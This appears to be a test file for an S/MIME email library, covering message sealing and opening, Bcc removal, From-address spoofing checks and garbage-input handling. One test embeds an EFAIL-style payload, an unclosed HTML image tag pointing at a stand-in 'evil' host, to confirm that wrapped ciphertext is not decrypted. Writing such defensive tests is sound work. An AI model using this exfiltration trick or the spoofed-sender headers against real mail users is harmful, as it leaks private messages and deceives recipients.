/**
 * openMessage and sealMessage together, in process, over a real OpenSSL-made PKI:
 * the round trips, the From rules (issue #3 identity tricks), the root-only rule
 * (EFAIL), bounded layers, and "never throws" on garbage.
 */
import { TESTDATA } from '../../../testdata'
import { describe, expect, it } from 'vitest'
import { openMessage, looksLikeMessage, singleFrom } from '../../../../src/core/message/open'
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { checkRecipients, sealMessage } from '../../../../src/core/message/seal'
import { readCertificates } from '../../../../src/core/pki'
import { splitDraft } from '../../../../src/core/message/entity'
import { isCoreError } from '../../../../src/core/errors'
import { parseMime } from '../../../../src/core/mime'
import { concat } from '../../../../src/core/util/bytes'
import { toBase64Lines } from '../../../../src/core/util/base64'
import { signData } from '../../../../src/core/cms/signed'
import { dec, draft, enc, withFixture, type Fixture } from './fixture'

const crypto = globalThis.crypto
let f: Fixture

withFixture((made) => (f = made))

const aliceDraft = () => draft(`Alice <${f.leaves.alice.email}>`, f.leaves.bob.email, 'Grüße ✓\r\n', 'X-Secret-Header: moved\r\nBcc: hidden@example.test\r\n')

describe('sealMessage', () => {
  it('keeps only delivery headers outside, drops Bcc, moves the rest inside, output is 7-bit CRLF', async () => {
    const out = await sealMessage(aliceDraft(), { identity: f.ids.alice, sign: true, encrypt: true, recipients: [f.leaves.bob.certDer] }, crypto)
    const text = dec(out)
    const outer = text.slice(0, text.indexOf('\r\n\r\n'))
    expect(outer).toMatch(/^From: Alice <alice@example.test>\r\nTo: bob@example.test\r\nSubject: Test\r\nDate: .*\r\nMessage-ID: <t@example.test>\r\nMIME-Version: 1.0\r\nContent-Type: application\/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"/)
    // Outside: no Bcc header. Anywhere: neither its address nor the moved header ('@' and
    // '-' are not base64, so no ciphertext can spell them; 'Bcc' alone could, by chance).
    expect(outer).not.toMatch(/^Bcc:/im)
    expect(text).not.toMatch(/hidden@|X-Secret/)
    expect(out.every((b) => b < 0x80)).toBe(true)
    expect(/[^\r]\n/.test(text)).toBe(false)
    const opened = await openMessage(out, f.keyring(['bob']), crypto)
    expect(opened.report.verdict).toEqual({ signature: 'valid', encryption: 'decrypted' })
    expect(opened.report.text).toBe('Grüße ✓\r\n')
    // RFC 9788: the payload starts with every header field of the draft (header protection).
    expect(dec(opened.inner)).toMatch(/^From: Alice <alice@example.test>\r\n(?:.*\r\n)*X-Secret-Header: moved\r\n/)
    expect(dec(opened.inner)).not.toMatch(/Bcc/)
  })

  it('always encrypts to the sender too', async () => {
    const out = await sealMessage(aliceDraft(), { identity: f.ids.alice, sign: false, encrypt: true, recipients: [f.leaves.erin.certDer] }, crypto)
    for (const who of ['alice', 'erin'] as const) {
      expect((await openMessage(out, f.keyring([who]), crypto)).report.verdict.encryption).toBe('decrypted')
    }
    expect((await openMessage(out, f.keyring(['bob']), crypto)).report.verdict.encryption).toBe('not-for-you')
  })

  it('GCM gives AuthEnvelopedData with integrity; CBC is flagged as without', async () => {
    const gcm = await openMessage(await sealMessage(aliceDraft(), { identity: f.ids.alice, sign: false, encrypt: true, recipients: [], cipher: 'aes-128-gcm' }, crypto), f.keyring(['alice']), crypto)
    expect(gcm.report.layers[0]).toMatchObject({ kind: 'auth-enveloped', integrity: true, contentEncryptionAlgorithm: 'aes-128-gcm' })
    expect(gcm.view.integrity).toBe(true)
    const cbc = await openMessage(await sealMessage(aliceDraft(), { identity: f.ids.alice, sign: false, encrypt: true, recipients: [] }, crypto), f.keyring(['alice']), crypto)
    expect(cbc.report.layers[0]).toMatchObject({ kind: 'enveloped', integrity: false, contentEncryptionAlgorithm: 'aes-256-cbc' })
    expect(cbc.view.integrity).toBe(false)
  })

  it('opaque and detached signatures, ECDSA with the curve hash in micalg', async () => {
    const det = await sealMessage(draft(f.leaves.erin.email, 'x@example.test'), { identity: f.ids.erin, sign: true, encrypt: false, recipients: [] }, crypto)
    expect(dec(det)).toMatch(/multipart\/signed; protocol="application\/pkcs7-signature"; micalg=sha-256/)
    const op = await sealMessage(draft(f.leaves.erin.email, 'x@example.test'), { identity: f.ids.erin, sign: true, encrypt: false, recipients: [], opaque: true }, crypto)
    expect(dec(op)).toMatch(/smime-type=signed-data/)
    for (const m of [det, op]) {
      const r = await openMessage(m, f.keyring([]), crypto)
      expect(r.report.verdict.signature).toBe('valid')
      expect(r.report.text).toBe('Hello, world.\r\n')
    }
  })

  it('refuses a signing-only recipient certificate (RFC 9216 Alice), accepts her encryption certificate', async () => {
    const read = async (n: string) => readCertificates(new Uint8Array(await readFile(join(TESTDATA, 'rfc9216', n))))[0]!
    await expect(checkRecipients([await read('alice@smime.example.sig.pem')], crypto)).rejects.toThrow(/signing only/)
    await expect(checkRecipients([await read('alice@smime.example.enc.pem')], crypto)).resolves.toBeUndefined()
  })

  it('refuses nothing-to-do and re-encodes 8-bit bodies', async () => {
    await expect(sealMessage(aliceDraft(), { identity: f.ids.alice, sign: false, encrypt: false, recipients: [] }, crypto)).rejects.toSatisfy((e) => isCoreError(e, 'bad-input'))
    const { inner } = splitDraft(enc('From: a@example.test\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nH\u00e4llo\n'))
    expect(dec(inner)).toBe('Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nH=C3=A4llo\r\n')
  })
})

describe('openMessage: From rules', () => {
  /** A multipart/signed over an entity (optionally with its own From, RFC 8551 header protection) under the given outer headers. */
  const signedWith = async (headers: string, innerFrom?: string) => {
    const entity = enc(`${innerFrom ? `From: ${innerFrom}\r\n` : ''}Content-Type: text/plain\r\n\r\nhi\r\n`)
    const sig = await signData(entity, { identity: f.ids.alice, detached: true }, crypto)
    const raw = concat([
      enc(`${headers}Subject: s\r\nMIME-Version: 1.0\r\nContent-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary=b\r\n\r\n--b\r\n`),
      entity,
      enc('\r\n--b\r\nContent-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n'),
      toBase64Lines(sig),
      enc('--b--\r\n'),
    ])
    return (await openMessage(raw, f.keyring([]), crypto)).report
  }
  it('valid for the single matching From', async () => {
    expect((await signedWith(`From: "Alice" <${f.leaves.alice.email.toUpperCase().replace('EXAMPLE.TEST', 'example.test')}>\r\n`)).verdict.signature).toBe('valid')
  })
  it('email-mismatch for two From headers, two addresses, none, or another address', async () => {
    for (const h of [`From: ${f.leaves.alice.email}\r\nFrom: x@example.test\r\n`, `From: ${f.leaves.alice.email}, x@example.test\r\n`, '', 'From: ceo@example.test\r\n']) {
      const r = await signedWith(h)
      expect(r.verdict.signature, h).toBe('email-mismatch')
    }
  })
  it('email-mismatch when a protected inner From differs from the outer one', async () => {
    const r = await signedWith(`From: ${f.leaves.alice.email}\r\n`, 'mallory@example.test')
    expect(r.verdict.signature).toBe('email-mismatch')
    expect(r.layers[0]!.kind === 'signed' && r.layers[0]!.signers[0]!.reasons.join(' ')).toMatch(/mallory/)
  })
  it('singleFrom says why', () => {
    expect(singleFrom(parseMime(enc('Subject: x\r\n\r\n')))).toEqual({ ok: false, reason: 'the message has no From header' })
    expect(singleFrom(parseMime(enc('From: A <a@example.test>\r\n\r\n')))).toEqual({ ok: true, address: 'a@example.test' })
  })
})

describe('openMessage: only the root is processed', () => {
  it('a signed message forwarded inside an unsigned multipart does not make it signed', async () => {
    const signed = await sealMessage(draft(f.leaves.alice.email, 'b@example.test'), { identity: f.ids.alice, sign: true, encrypt: false, recipients: [] }, crypto)
    const entity = signed.subarray(dec(signed).indexOf('Content-Type: multipart/signed'))
    const wrapper = concat([enc(`From: ${f.leaves.alice.email}\r\nContent-Type: multipart/mixed; boundary=w\r\n\r\n--w\r\nContent-Type: text/plain\r\n\r\nI agree to pay.\r\n--w\r\n`), entity, enc('\r\n--w--\r\n')])
    const r = await openMessage(wrapper, f.keyring([]), crypto)
    expect(r.report.verdict.signature).toBe('none')
    expect(r.report.layers).toEqual([])
    expect(r.view.embedded).toHaveLength(1)
    expect(r.report.errors.map((e) => e.code)).toEqual(['embedded-smime'])
  })
  it('encrypted content inside an unencrypted multipart is not decrypted', async () => {
    const enveloped = await sealMessage(draft(f.leaves.alice.email, 'b@example.test', 'secret\r\n'), { identity: f.ids.alice, sign: false, encrypt: true, recipients: [] }, crypto)
    const entity = enveloped.subarray(dec(enveloped).indexOf('Content-Type: application/pkcs7-mime'))
    const wrapper = concat([enc(`From: x@example.test\r\nContent-Type: multipart/mixed; boundary=w\r\n\r\n--w\r\nContent-Type: text/html\r\n\r\n<img src="http://evil/?\r\n--w\r\n`), entity, enc('\r\n--w--\r\n')])
    const r = await openMessage(wrapper, f.keyring(['alice']), crypto)
    expect(r.report.verdict.encryption).toBe('none')
    expect(JSON.stringify(r.report)).not.toMatch(/secret/)
  })
})

describe('openMessage: signatures that cannot be checked', () => {
  it('an OpenPGP-signed message is shown as unsigned, with a note', async () => {
    const raw = enc('From: a@example.test\r\nContent-Type: multipart/signed; protocol="application/pgp-signature"; micalg=pgp-sha256; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b\r\nContent-Type: application/pgp-signature\r\n\r\nx\r\n--b--\r\n')
    const r = await openMessage(raw, f.keyring([]), crypto)
    expect(r.report.verdict.signature).toBe('none')
    expect(r.report.errors[0]!.message).toMatch(/pgp-signature/)
  })
  it('a garbage detached signature: invalid, the signed part is still shown', async () => {
    const raw = enc('From: a@example.test\r\nContent-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b\r\nContent-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\nMIIBAAYJKoZIhvcNAQcC\r\n--b--\r\n')
    const r = await openMessage(raw, f.keyring([]), crypto)
    expect(r.report.verdict.signature).toBe('invalid')
    expect(r.report.text).toBe('hi')
    expect(r.report.attachments).toEqual([])
  })
})

describe('openMessage never throws and never reports garbage as clean', () => {
  it('bounded layers', async () => {
    const m = await sealMessage(aliceDraft(), { identity: f.ids.alice, sign: true, encrypt: true, recipients: [] }, crypto)
    const r = await openMessage(m, f.keyring(['alice']), crypto, { maxLayers: 1 })
    expect(r.report.errors.map((e) => e.code)).toContain('limit-exceeded')
    expect(r.report.verdict.signature).toBe('invalid')
  })
  it('truncated and garbled input', async () => {
    const m = await sealMessage(aliceDraft(), { identity: f.ids.alice, sign: true, encrypt: true, recipients: [] }, crypto)
    for (const cut of [0.3, 0.6, 0.95]) {
      const r = await openMessage(m.subarray(0, Math.floor(m.length * cut)), f.keyring(['alice']), crypto)
      expect(r.report.verdict.encryption).not.toBe('decrypted')
      expect(r.report.errors.length).toBeGreaterThan(0)
    }
    const signed = await sealMessage(aliceDraft(), { identity: f.ids.alice, sign: true, encrypt: false, recipients: [], opaque: true }, crypto)
    const r = await openMessage(signed.subarray(0, signed.length - 200), f.keyring([]), crypto)
    expect(r.report.verdict.signature).toBe('invalid')
    for (const junk of [new Uint8Array(0), enc('\u0000\u0001garbage'), new Uint8Array(5000).fill(0x30)]) {
      const g = await openMessage(junk, f.keyring([]), crypto)
      expect(g.report.verdict.signature).not.toBe('valid')
    }
    expect(looksLikeMessage(new Uint8Array(0))).toBe(false)
    expect(looksLikeMessage(enc('Subject: x\r\n\r\nbody'))).toBe(true)
  })
})
